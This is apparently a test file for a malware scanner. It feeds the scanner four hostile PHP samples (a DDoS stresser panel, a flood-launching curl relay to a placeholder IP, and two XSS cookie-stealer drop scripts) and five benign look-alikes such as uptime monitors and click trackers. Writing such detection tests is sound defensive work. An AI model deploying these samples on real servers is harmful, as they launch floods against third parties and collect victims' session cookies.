import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 44: the misses of its fair samples (bench/redteam/README-corpus-s44.md) and families no sample held, each
// written again by us, with the look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const FAMILIES: [string, string, string][] = [
  [
    'a DDoS panel posting the form\'s host, port, time and method to a stresser\'s API with its key (H45)',
    '/srv/www/panel/hub.php',
    `<?php
$key = "k3y-0f-the-panel";
if (isset($_POST['launch'])) {
  $target = $_POST['host'];
  $p = intval($_POST['port']);
  $secs = intval($_POST['time']);
  $how = $_POST['method'];
  $go = "https://api.stress.example/v1/start?key=" . $key . "&host=" . urlencode($target) . "&port=" . $p . "&time=" . $secs . "&method=" . $how;
  $answer = file_get_contents($go);
  echo "<p>Attack queued: " . htmlspecialchars($answer) . "</p>";
}
?>
<form method="post"><input name="host"><input name="port" value="80"><input name="time" value="120">
<select name="method"><option>UDP</option><option>NTP</option><option>DNS</option></select><button name="launch">Go</button></form>
`,
  ],
  [
    'the same relay through curl, the request\'s values interpolated into the address',
    '/srv/www/api/run.php',
    `<?php
$h = curl_init();
curl_setopt($h, CURLOPT_URL, "http://198.51.100.9/api.php?key=Q1&ip={$_GET['ip']}&port={$_GET['port']}&time={$_GET['time']}&method={$_GET['m']}");
curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
echo curl_exec($h) ? 'flood started' : 'error';
`,
  ],
  [
    'an XSS cookie stealer\'s drop: the cookie, address, date and referer appended to a page, the visitor sent to a search engine',
    '/srv/www/c.php',
    `<?php
$got = $_GET['c'];
$from = $_SERVER['REMOTE_ADDR'];
$when = date("j F, Y, g:i a");
$ref = $_SERVER['HTTP_REFERER'];
$out = fopen('cookies.html', 'a');
fwrite($out, 'Cookie: ' . $got . '<br> IP: ' . $from . '<br> Date: ' . $when . '<br> Referer: ' . $ref . '<hr>');
fclose($out);
header("Location: http://www.example.com");
`,
  ],
  [
    'a cookie stealer\'s drop in one line, with a named field',
    '/srv/www/log.php',
    `<?php
if (isset($_GET['cookie'])) {
  file_put_contents('log.txt', date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_GET['cookie'] . PHP_EOL, FILE_APPEND);
}
header('Location: https://example.net/');
`,
  ],
];

const FAMILY_LOOKALIKES: [string, string, string][] = [
  [
    'an uptime monitor asking its provider\'s API to probe a host and port the form gives',
    '/srv/www/monitor/probe.php',
    `<?php
$host = $_POST['host'];
$port = (int) $_POST['port'];
$url = "https://monitor.example.com/api/probe?host=" . urlencode($host) . "&port=" . $port . "&timeout=5&type=tcp";
echo htmlspecialchars(file_get_contents($url));
`,
  ],
  [
    'a load-test runner of a company\'s own staging site, its settings fixed in the code',
    '/srv/www/ops/loadtest.php',
    `<?php
// starts the nightly stress test of staging (k6 cloud); only the run's label comes from the form
$label = preg_replace('/[^a-z0-9-]/', '', $_POST['label'] ?? 'nightly');
$api = "https://k6.example.com/v1/tests/start?project=42&label=" . $label . "&duration=600&vus=50";
$ctx = stream_context_create(['http' => ['method' => 'POST', 'header' => 'Authorization: Token ' . getenv('K6_TOKEN')]]);
echo file_get_contents($api, false, $ctx);
`,
  ],
  [
    'a campaign click tracker logging the campaign and address, then sending the visitor to the sale',
    '/srv/www/t.php',
    `<?php
$c = $_GET['c'] ?? 'none';
file_put_contents(__DIR__ . '/clicks.log', date('c') . " {$_SERVER['REMOTE_ADDR']} campaign=$c\\n", FILE_APPEND);
header('Location: https://shop.example.com/sale');
`,
  ],
  [
    'a cookie-consent log keeping the choice and a hash of the address',
    '/srv/www/consent.php',
    `<?php
$choice = $_POST['cookie'] === 'accept' ? 'accept' : 'reject';
file_put_contents('/var/log/consent.log', date('c') . ' ' . hash('sha256', $_SERVER['REMOTE_ADDR']) . ' ' . $choice . "\\n", FILE_APPEND);
header('Location: https://www.example.org/privacy');
`,
  ],
  [
    'a hit logger writing the address and referer, then sending the visitor home',
    '/srv/www/hit.php',
    `<?php
$line = date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . ($_SERVER['HTTP_REFERER'] ?? '-') . ' ' . ($_GET['page'] ?? '') . "\\n";
file_put_contents(__DIR__ . '/hits.log', $line, FILE_APPEND | LOCK_EX);
header('Location: /index.php');
`,
  ],
];

describe('scan: families written from their published shapes (session 44)', () => {
  for (const [name, path, src] of FAMILIES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every family', () => assert.equal(FAMILIES.length, 4));
  for (const [name, path, src] of FAMILY_LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 5));
});
